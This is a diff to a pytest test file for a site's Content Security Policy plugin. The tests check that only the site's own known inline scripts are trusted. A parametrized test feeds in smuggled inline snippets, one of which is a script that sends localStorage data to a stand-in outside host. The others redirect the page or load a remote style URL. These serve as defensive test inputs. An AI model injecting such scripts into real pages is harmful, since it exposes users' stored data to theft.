@@ -34,10 +34,31 @@ def test_every_page_carries_a_policy_that_allows_only_this_origin(site_dir: Path
             assert directive in policy, (html, directive)
 
 
-def test_policy_hashes_exactly_the_inline_scripts() -> None:
-    page = '<script>a()</script><script type="application/json">{}</script><script src="x.js"></script>'
-    assert csp.inline_script_hashes(page) == [csp._sha256("a()")]
+OWN_SCRIPT = 'document.documentElement.classList.replace("no-js","js")'
+
+
+def test_policy_hashes_only_the_inline_scripts_the_site_ships() -> None:
+    page = (f"<script>{OWN_SCRIPT}</script><script type=\"application/json\">{{}}</script>"
+            '<script src="x.js"></script>')
+    assert csp.inline_script_hashes(page) == [csp._sha256(OWN_SCRIPT)]
     assert "sha256-" not in csp.policy("<p>geen scripts</p>").split("style-src")[0]
+
+
+@pytest.mark.parametrize("smuggled", [
+    "<script>fetch('https://example.org/?'+localStorage.getItem('x'))</script>",
+    "<script>location='https://example.org'</script>",
+    "<style>body{background:url(https://example.org/x)}</style>",
+])
+def test_policy_never_trusts_an_inline_script_or_style_it_does_not_know(smuggled: str) -> None:
+    with pytest.raises(csp.PluginError, match="methoden/x.md"):
+        csp.policy(f"<script>{OWN_SCRIPT}</script><article>{smuggled}</article>", "methoden/x.md")
+
+
+def test_material_scripts_are_known_whatever_the_page_depth(site_dir: Path) -> None:
+    # The same Material script differs per page only in the site URL; every built page passed the check.
+    for rel in ("index.html", "methoden/basismodel/index.html", "404.html"):
+        bodies = csp.executed_inline_scripts((site_dir / rel).read_text(encoding="utf-8"))
+        assert len(bodies) >= 3 and all(csp.is_known(body) for body in bodies), rel
 
 
 @pytest.mark.browser
